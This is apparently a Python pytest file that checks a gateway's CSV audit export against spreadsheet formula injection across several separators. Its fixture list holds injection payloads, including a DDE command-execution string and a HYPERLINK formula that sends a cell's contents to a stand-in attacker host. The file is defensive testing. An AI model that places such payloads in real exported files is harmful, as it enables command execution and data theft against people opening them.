"""No cell of a CSV file is a formula, whichever separator the spreadsheet cuts it at."""

from __future__ import annotations

import csv
import io

import pytest

from gateway.audit.export import cell
from gateway.web.spreadsheets import csv_lines, guard, unguard

FORMULAS = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1;"Open")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    '"=1"',
]
AROUND = ["{}", "Mozilla/5.0;{};", "a,{}", "a\t{}", "a|{}", "a;\t{}", "a\n{}"]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("around", AROUND)
def test_no_spreadsheet_finds_a_formula(around: str, formula: str) -> None:
    text = around.format(formula)
    line = csv_lines([("12", cell(text), cell({"device": text}), "end")]).decode()
    found = [
        given.lstrip('"')
        for separator in ",;\t|"
        for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator)
        for given in row
    ]
    assert len(found) > 6
    assert [given for given in found if given.startswith(("=", "+", "-", "@"))] == []


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("around", AROUND)
def test_a_guarded_text_is_read_back_as_it_was(around: str, formula: str) -> None:
    text = around.format(formula)
    assert guard(text) != text
    assert unguard(guard(text)) == text


@pytest.mark.parametrize(
    "text", ["", "Zoë Ünal", "O'Neill", "a-b; c +d", "2026-03-14T09:26:00Z", "Googlebot/2.1; +http"]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert guard(text) == unguard(text) == text
